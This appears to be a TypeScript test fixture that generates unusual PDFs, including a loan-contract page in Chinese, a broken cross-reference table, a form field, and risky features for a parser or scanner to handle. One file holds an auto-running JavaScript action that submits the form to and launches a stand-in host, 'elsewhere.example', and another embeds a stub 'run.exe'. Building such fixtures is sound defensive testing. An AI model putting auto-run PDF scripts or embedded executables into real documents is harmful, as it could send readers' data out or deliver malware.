/** PDFs written by hand that try something: a table of places that is wrong, a script, a file inside, a form that was filled in. */

const hex = (text: string) =>
  [...text].map((letter) => (letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('');

const words = ['借款合同', '贷款人：招联消费金融股份有限公司', '年利率为18%，逾期日息0.075%'];
const drawn = `BT /F1 16 Tf 72 760 Td 26 TL ${words.map((line) => `<${hex(line)}> Tj T*`).join(' ')} ET`;

/** A page with a font that is only named, as many contracts have. */
const page = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ANNOTS >>',
  `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
  '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light-UniGB-UCS2-H /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >>',
  '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor 7 0 R >>',
  '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>',
];

/** `catalog` and `more`: what else stands in it; objects from 8 on. */
function written(catalog = '', more: readonly string[] = [], annotations = ''): string {
  const objects = [`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...page, ...more];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object.replace('ANNOTS', annotations)}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const end = `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}${end}`;
}

const script =
  'app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\); app.launchURL\\("https://elsewhere.example/"\\);';

export const oddDocuments: Record<string, string> = {
  'broken-table.pdf': written()
    .replace(/startxref\n\d+/, 'startxref\n99999')
    .replace(/\d{10} 00000 n/g, '0000000007 00000 n'),
  'with-script.pdf': written(
    '/OpenAction 8 0 R /AA << /WC 8 0 R >> /Names << /JavaScript << /Names [(first) 8 0 R] >> >>',
    [`<< /S /JavaScript /JS (${script}) >>`],
  ),
  'with-file.pdf': written('/Names << /EmbeddedFiles << /Names [(run.exe) 8 0 R] >> >>', [
    '<< /Type /Filespec /F (run.exe) /EF << /F 9 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream',
  ]),
  'with-form.pdf': written(
    '/AcroForm << /Fields [8 0 R] /NeedAppearances true >>',
    [
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (sum) /V (20000) /Rect [72 600 272 620] /P 3 0 R /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>',
    ],
    '/Annots [8 0 R]',
  ),
};
